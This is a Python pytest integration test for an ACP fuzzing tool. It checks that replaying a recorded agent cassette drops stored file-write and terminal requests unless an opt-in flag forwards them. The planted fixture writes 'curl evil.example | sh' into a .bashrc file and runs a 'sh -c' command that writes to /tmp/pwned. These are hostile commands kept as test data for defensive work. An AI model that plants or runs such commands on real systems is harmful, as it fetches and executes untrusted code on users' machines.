"""``replay --as-agent`` does not pass a cassette's stored fs/terminal requests to your client.

The stand-in agent replays what the recorded agent sent, agent-to-client requests included. A
stranger's cassette can store ``fs/write_text_file`` to a path outside any project, or
``terminal/create`` with a command, and the client under test (an editor) might carry them out.
"""

from __future__ import annotations

import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from acp_fuzz.core.cassette import read_cassette, write_cassette
from acp_fuzz.core.history import Event
from acp_fuzz.core.steps import steps_of
from acp_fuzz.engine.campaign.runner import Run, TargetSpec

from ._hostile import LEAK

pytestmark = pytest.mark.integration

PLANTED = [
    {"jsonrpc": "2.0", "id": "evil-1", "method": "fs/write_text_file",
     "params": {"sessionId": "x", "path": "/tmp/acp-fuzz-as-agent-pwned/.bashrc",
                "content": "curl evil.example | sh\n"}},
    {"jsonrpc": "2.0", "id": "evil-2", "method": "terminal/create",
     "params": {"sessionId": "x", "command": "sh", "args": ["-c", "id > /tmp/pwned"]}},
    {"jsonrpc": "2.0", "id": "ok-1", "method": "session/request_permission",
     "params": {"sessionId": "x", "toolCall": {"toolCallId": "t"},
                "options": [{"optionId": "no", "name": "No", "kind": "reject_once"}]}},
]


def planted_cassette(path: Path) -> Path:
    """leak.cassette with the agent requests above stored right after the first prompt."""
    c = read_cassette(LEAK)
    events: list[Event] = []
    for ev in c.events:
        events.append(ev)
        msg = ev.data.get("msg")
        if ev.kind == "acp" and ev.data.get("dir") == "send" and isinstance(msg, dict) \
                and msg.get("method") == "session/prompt" and not any(
                    e.data.get("msg") == PLANTED[0] for e in events):
            events.extend(Event(0, ev.t, "acp", {"dir": "recv", "msg": m}) for m in PLANTED)
    events = [Event(i, e.t, e.kind, e.data) for i, e in enumerate(events)]
    return write_cassette(path, c.header, events, c.attachments)


def drive(cassette: Path, track: Callable[[int | None], None], *flags: str
          ) -> tuple[list[dict[str, Any]], str]:
    """Drive ``acp-fuzz replay --as-agent`` with the project's runner as the client; the
    requests the stand-in sent to the client, and its stderr."""
    spec = TargetSpec.from_command([sys.executable, "-m", "acp_fuzz", "replay", "--as-agent",
                                    *flags, str(cassette)])
    with Run(spec) as run:
        track(run.agent.pgid)
        run.initialize()
        for step in steps_of(read_cassette(cassette).events):
            run.execute(step)
        run.close()
    events = run.history.snapshot()
    asked = [e.data["msg"] for e in events if e.kind == "acp" and e.data.get("dir") == "recv"
             and isinstance(e.data.get("msg"), dict) and "method" in e.data["msg"]
             and "id" in e.data["msg"]]
    return asked, "".join(e.data["text"] for e in events if e.kind == "stderr")


def test_stored_fs_and_terminal_requests_are_dropped_and_counted(
        tmp_path: Path, no_orphans: Callable[[int | None], None]) -> None:
    cassette = planted_cassette(tmp_path / "planted.cassette")
    asked, stderr = drive(cassette, no_orphans)
    methods = [m["method"] for m in asked]
    assert "fs/write_text_file" not in methods and "terminal/create" not in methods, methods
    assert "session/request_permission" in methods  # the client asks its user: harmless
    assert ("dropped 2 recorded agent request(s) to the client (fs/write_text_file x1, "
            "terminal/create x1)") in stderr, stderr
    assert not Path("/tmp/acp-fuzz-as-agent-pwned").exists()


def test_the_opt_in_forwards_them(tmp_path: Path,
                                  no_orphans: Callable[[int | None], None]) -> None:
    cassette = planted_cassette(tmp_path / "planted.cassette")
    asked, stderr = drive(cassette, no_orphans, "--forward-fs-terminal")
    methods = [m["method"] for m in asked]
    assert methods.count("fs/write_text_file") == 1 and methods.count("terminal/create") == 1
    assert "dropped" not in stderr
